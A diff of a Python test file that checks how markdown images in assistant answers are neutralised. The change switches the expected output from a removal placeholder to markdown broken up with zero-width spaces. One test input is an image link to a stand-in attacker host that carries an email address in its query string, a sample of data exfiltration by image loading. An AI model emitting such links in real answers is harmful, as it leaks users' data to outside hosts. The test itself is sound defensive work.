@@ -16,8 +16,8 @@ def test_long_and_multiline_cells_are_shortened_to_one_line():
 
 def test_images_in_answers_are_neutralised_but_text_stays():
     assert neutralise("Done ![pixel](http://evil.example/leak?c=jane@acme.com) ok") == \
-        "Done [image removed: pixel] ok"
-    assert display_markdown({"kind": "text", "markdown": "![a](http://e)"}) == "[image removed: a]"
+        "Done !\u200b[pixel]\u200b(http://evil.example/leak?c=jane@acme.com) ok"
+    assert display_markdown({"kind": "text", "markdown": "![a](http://e)"}) == "!\u200b[a]\u200b(http://e)"
 
 
 def test_approval_summary_escapes_its_data_and_says_nothing_happens_before_approve():
